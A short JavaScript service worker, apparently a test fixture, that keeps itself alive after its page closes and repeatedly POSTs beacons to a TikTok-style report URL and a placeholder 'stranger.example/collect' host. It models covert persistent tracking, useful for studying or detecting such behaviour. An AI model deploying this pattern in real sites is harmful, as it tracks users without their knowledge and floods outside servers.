// A worker that the player leaves behind: it needs no page to report.
setInterval(() => {
  for (const url of ['https://mssdk-ttp2.tiktokw.us/web/report', 'https://stranger.example/collect'])
    fetch(`${url}?worker`, { method: 'POST', body: '{}' }).catch(() => undefined);
}, 50);
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
